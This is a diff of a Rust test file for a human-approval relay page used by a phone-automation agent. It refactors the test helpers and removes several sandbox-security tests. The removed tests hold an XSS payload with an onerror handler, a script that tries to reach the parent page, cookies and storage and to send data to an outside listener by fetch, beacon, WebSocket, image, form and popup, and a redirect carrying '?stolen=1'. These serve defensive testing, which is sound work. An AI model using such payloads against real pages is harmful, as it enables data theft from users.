@@ -5,81 +5,15 @@
 mod human_support;
 
 use clawperator_contract::Failure;
-use clawperator_host::dispatch::Stop;
-use clawperator_pocket::action::{Capability, UiTemplate};
-use clawperator_pocket::human::bridge::Limits;
+use clawperator_pocket::action::Capability;
 use clawperator_pocket::human::relay::{Frame, Settings, Touch};
-use clawperator_pocket::human::{Ask, Bridge, Decision, Relay, Status, Takeover};
-use human_support::browser::Browser;
-use serde_json::{Value, json};
+use clawperator_pocket::human::{Clock, Relay, Secret, Status, Takeover};
+use human_support::page::{answered, answered_by, content};
+use serde_json::json;
 use std::io::{Read, Write};
 use std::net::{Shutdown, TcpListener, TcpStream};
-use std::sync::{Arc, Mutex, mpsc};
-
-/// Asks, opens the page, does `act` there, and gives the decision.
-fn answered(
-    settings: Settings,
-    capability: Capability,
-    template: &Value,
-    act: impl FnOnce(&mut Browser, &str),
-) -> Decision {
-    let relay = Relay::start(settings).unwrap();
-    let bridge = Bridge::here(&relay, Limits::default());
-    let template: UiTemplate = serde_json::from_value(template.clone()).unwrap();
-    let ask = Ask {
-        capability,
-        instruction: "The shop sent a code to your phone. Please enter it.",
-        reason: "The shop asks for a code before it takes the order.",
-        timeout_sec: 300,
-        task: "Order oat milk for tomorrow morning",
-        session_id: "s1",
-        step: 3,
-        current_app: "com.example.shop",
-        screenshot_path: None,
-        ui_template: Some(&template),
-        template_path: None,
-    };
-    std::thread::scope(|scope| {
-        let (told, opened) = mpsc::channel();
-        let (ask, bridge) = (&ask, &bridge);
-        let waits = scope.spawn(move || {
-            let mut tell = |opened: &_| told.send(Clone::clone(opened)).unwrap();
-            bridge.ask(ask, None, &Stop::default(), &mut tell)
-        });
-        let opened: clawperator_pocket::human::Opened = opened.recv().unwrap();
-        let url = opened.open_url.unwrap();
-        let mut browser = Browser::phone();
-        // Whatever the page would do to a phone's user, it does here.
-        let done =
-            std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| act(&mut browser, &url)));
-        if let Err(panic) = done {
-            bridge.decide(&opened.request_id, false, None, "test");
-            std::panic::resume_unwind(panic);
-        }
-        waits.join().unwrap().unwrap()
-    })
-}
-
-fn shown(browser: &mut Browser) -> String {
-    browser.value("document.body.innerText").as_str().unwrap().to_owned()
-}
-
-fn content(decision: &Decision) -> Value {
-    let artifact = decision.artifact.as_ref().unwrap();
-    assert_eq!(artifact.mime, "application/json");
-    serde_json::from_slice(&artifact.bytes).unwrap()
-}
-
-/// Nobody sent a byte there. Chromium opens a connection when a frame wants to leave, before it asks
-/// whether it may, and closes it unused.
-fn nothing_was_said_to(listener: &TcpListener) {
-    while let Ok((mut knock, _)) = listener.accept() {
-        knock.set_nonblocking(false).unwrap();
-        let mut said = Vec::new();
-        let _ = knock.read_to_end(&mut said);
-        assert_eq!(String::from_utf8_lossy(&said), "");
-    }
-}
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
 
 /// A proxy that shows a relay below a path, as tunnels and hubs do.
 fn below_a_path(relay: std::net::SocketAddr, listener: TcpListener, path: &'static str) {
@@ -112,15 +46,11 @@ fn below_a_path(relay: std::net::SocketAddr, listener: TcpListener, path: &'stat
 #[test]
 fn a_code_goes_from_the_page_to_the_agent_even_behind_a_path() {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let free = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
     let public = format!("http://{}/a/b", listener.local_addr().unwrap());
-    below_a_path(free, listener, "/a/b");
-    let settings = Settings {
-        port: free.port(),
-        public_base_url: Some(public.clone()),
-        ..Settings::default()
-    };
-    let decision = answered(settings, Capability::Sms, &json!({}), |browser, url| {
+    let settings = Settings { public_base_url: Some(public.clone()), ..Settings::default() };
+    let relay = Relay::start(settings).unwrap();
+    below_a_path(relay.address(), listener, "/a/b");
+    let decision = answered_by(&relay, Capability::Sms, &json!({}), |browser, url| {
         assert!(url.starts_with(&public) && url.contains("?token="));
         browser.open(url);
         browser.picture("sms");
@@ -307,148 +237,6 @@ fn a_photo_is_made_small_and_several_are_an_album() {
     std::fs::remove_dir_all(folder).unwrap();
 }
 
-#[test]
-fn what_an_agent_writes_into_texts_is_only_ever_text() {
-    let evil = "</script><img src=x onerror=\"window.hacked=1\"><b>bold</b>";
-    let field = json!({"id": "f", "label": evil, "type": "select", "placeholder": evil,
-        "helperText": evil, "options": [{"value": evil, "label": evil}]});
-    let template = json!({"title": evil, "summary": evil, "capabilityHint": evil, "approveLabel": evil,
-        "rejectLabel": evil, "noteLabel": evil, "notePlaceholder": evil, "fields": [field],
-        "middleHtml": evil, "style": {"brandColor": evil, "backgroundCss": evil}});
-    answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
-        browser.open(url);
-        assert_eq!(browser.value("document.querySelector('h1').textContent"), json!(evil));
-        assert_eq!(browser.value("document.querySelectorAll('main img, main b').length"), json!(0));
-        assert_eq!(browser.value("typeof window.hacked"), json!("undefined"));
-        browser.click(".danger");
-        browser.until("document.body.innerText.includes('Rejected.')");
-    });
-}
-
-#[test]
-fn the_agents_own_form_works_in_its_frame() {
-    let template = json!({
-        "title": "Choose a seat",
-        "middleHtml": "<label>Seat <input id='seat' value='12'></label><button id='go'>Window</button>",
-        "middleCss": "#seat { color: rgb(1, 2, 3) }",
-        "middleScript": "api.setValue('seat', '14' + api.capability); api.setStatus('mounted ' + getComputedStyle(api.getElement('seat')).color);",
-        "approveScript": "if (api.note === '') return { ok: false, error: 'say why' }; if (api.note === 'boom') throw new Error('broke'); return { artifactJson: { kind: 'form', fields: { seat: api.getValue('seat') } }, note: 'seat chosen' };",
-    });
-    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
-        browser.open(url);
-        browser.until(
-            "document.querySelector('.status').textContent.includes('mounted rgb(1, 2, 3)')",
-        );
-        browser.picture("middle");
-        browser.click(".primary");
-        browser.until("document.querySelector('.status').textContent.includes('say why')");
-        browser.write("textarea", "boom");
-        browser.click(".primary");
-        browser.until("document.querySelector('.status').textContent.includes('broke')");
-        browser.value("document.querySelector('textarea').value = 'because'");
-        browser.click(".primary");
-        browser.until("document.body.innerText.includes('Approved.')");
-    });
-    assert_eq!(decision.message, "seat chosen");
-    assert_eq!(content(&decision)["fields"]["seat"], "14unknown");
-}
-
-#[test]
-fn an_approval_script_that_never_ends_blocks_the_approval() {
-    let template = json!({"approveScript": "await new Promise(() => {});"});
-    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
-        // Fifteen seconds of the page's time, none of ours.
-        let quick = "const real = setTimeout; window.setTimeout = (what, ms, ...rest) => real(what, ms === 15000 ? 0 : ms, ...rest);";
-        browser.call("Page.addScriptToEvaluateOnNewDocument", json!({"source": quick}));
-        browser.open(url);
-        browser.click(".primary");
-        browser.until("document.querySelector('.status').textContent.includes('15 seconds')");
-        browser.click(".danger");
-        browser.until("document.body.innerText.includes('Rejected.')");
-    });
-    assert_eq!(decision.status, Status::Rejected);
-}
-
-#[test]
-fn the_agents_scripts_reach_neither_the_page_nor_the_token_nor_a_network() {
-    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
-    outside.set_nonblocking(true).unwrap();
-    let there = format!("http://{}", outside.local_addr().unwrap());
-    // Tries everything and says what came of it.
-    let script = format!(
-        "const got = {{}};
-         const attempt = async (name, what) => {{
-           try {{ got[name] = 'GOT ' + String(await what()).slice(0, 80); }} catch (error) {{ got[name] = 'no'; }}
-         }};
-         await attempt('parent', () => parent.document.body.innerHTML);
-         await attempt('top', () => top.location.href);
-         await attempt('opener', () => {{ if (!window.opener) throw 0; return 1; }});
-         await attempt('storage', () => localStorage.length);
-         await attempt('cookie', () => document.cookie);
-         await attempt('fetch', () => fetch('{there}/fetch'));
-         await attempt('relay', () => fetch('/healthz'));
-         await attempt('beacon', () => {{ navigator.sendBeacon('{there}/beacon'); throw 0; }});
-         await attempt('socket', () => new Promise((yes, no) => {{ const s = new WebSocket('{there}'.replace('http', 'ws')); s.onopen = yes; s.onerror = no; }}));
-         await attempt('image', () => new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = no; i.src = '{there}/image'; }}));
-         await attempt('frame', () => {{ const f = document.createElement('iframe'); f.src = '{there}/frame'; document.body.append(f); throw 0; }});
-         await attempt('form', () => {{ const f = document.createElement('form'); f.action = '{there}/form'; document.body.append(f); f.submit(); throw 0; }});
-         await attempt('popup', () => {{ if (!window.open('{there}/popup')) throw 0; return 1; }});
-         await attempt('eval', () => eval('1'));
-         await attempt('moveTop', () => {{ top.location = '{there}/top'; throw 0; }});
-         got.referrer = document.referrer; got.origin = String(self.origin); got.here = location.href;
-         got.api = Object.keys(api).join();
-         parent.postMessage({{ do: 'artifact', artifact: {{ mimeType: 'a/b', base64: '' }} }}, '*');
-         api.setArtifactJson(got);
-         api.setStatus('tried all');"
-    );
-    let field = json!({"id": "f", "label": "Password", "type": "password"});
-    let template = json!({"middleScript": script, "fields": [field], "approveScript":
-        "const a = api.currentArtifact; return { note: 'fields ' + api.hasArtifact + ' ' + JSON.stringify(api.uiTemplate.fields.map((f) => f.value)) };"});
-    let mut token = String::new();
-    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
-        token = url.split_once("?token=").unwrap().1.to_owned();
-        browser.open(url);
-        browser.until("document.querySelector('.status').textContent.includes('tried all')");
-        browser.click(".primary");
-        browser.until("document.body.innerText.includes('Approved.')");
-        // Leaving its frame for elsewhere is not possible either; see the next test.
-        assert!(shown(browser).contains("Authorization Required"));
-    });
-    let got = content(&decision);
-    for name in [
-        "parent", "top", "opener", "storage", "cookie", "fetch", "relay", "beacon", "socket",
-        "image", "frame", "form", "popup", "eval", "moveTop",
-    ] {
-        assert_eq!(got[name], "no", "{name}: {got}");
-    }
-    assert_eq!((&got["referrer"], &got["origin"]), (&json!(""), &json!("null")));
-    assert!(got["here"].as_str().unwrap().ends_with("/human-auth/assets/stage.html"));
-    assert!(!got.to_string().contains(&token));
-    assert_eq!(decision.message, "fields true [null]");
-    nothing_was_said_to(&outside);
-}
-
-#[test]
-fn a_frame_that_leaves_gets_nowhere_and_approves_nothing() {
-    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
-    outside.set_nonblocking(true).unwrap();
-    let there = format!("http://{}", outside.local_addr().unwrap());
-    let template = json!({
-        "middleScript": format!("location.href = '{there}/?stolen=1';"),
-        "approveScript": "return {};",
-    });
-    let decision = answered(Settings::default(), Capability::Unknown, &template, |browser, url| {
-        browser.open(url);
-        browser.until("!document.querySelector('iframe')");
-        browser.click(".primary");
-        browser.until("document.querySelector('.status').textContent.includes('left')");
-        browser.click(".danger");
-        browser.until("document.body.innerText.includes('Rejected.')");
-    });
-    assert_eq!(decision.status, Status::Rejected);
-    nothing_was_said_to(&outside);
-}
-
 /// A grey phone that remembers what was done to it.
 #[derive(Default)]
 struct Phone(Mutex<Vec<Touch>>);
@@ -471,7 +259,7 @@ impl Takeover for Phone {
 fn a_person_uses_the_phone_through_the_page() {
     let phone = Arc::new(Phone::default());
     let takeover: Arc<dyn Takeover> = phone.clone();
-    let clock = clawperator_pocket::human::Clock::default();
+    let clock = Clock::default();
     let settings =
         Settings { takeover: Some(takeover), clock: clock.clone(), ..Settings::default() };
     answered(settings, Capability::Unknown, &json!({}), |browser, url| {
@@ -481,10 +269,10 @@ fn a_person_uses_the_phone_through_the_page() {
         browser.picture("takeover");
         browser.click(".screen");
         browser.until("document.body.innerText.includes('done 1')");
-        clock.forward(std::time::Duration::from_millis(300));
+        clock.forward(Duration::from_millis(300));
         browser.click(".keys button");
         browser.until("document.body.innerText.includes('done 2')");
-        clock.forward(std::time::Duration::from_millis(300));
+        clock.forward(Duration::from_millis(300));
         browser.write(".typing input", "hello");
         browser.click(".typing button");
         browser.until("document.body.innerText.includes('done 3')");
@@ -494,5 +282,5 @@ fn a_person_uses_the_phone_through_the_page() {
     let touches = phone.0.lock().unwrap();
     assert_eq!(touches[0], Touch::Tap { x: 50, y: 100 });
     assert_eq!(touches[1], Touch::Keyevent { keycode: "KEYCODE_BACK".into() });
-    assert_eq!(touches[2], Touch::Type { text: clawperator_pocket::human::Secret::new("hello") });
+    assert_eq!(touches[2], Touch::Type { text: Secret::new("hello") });
 }
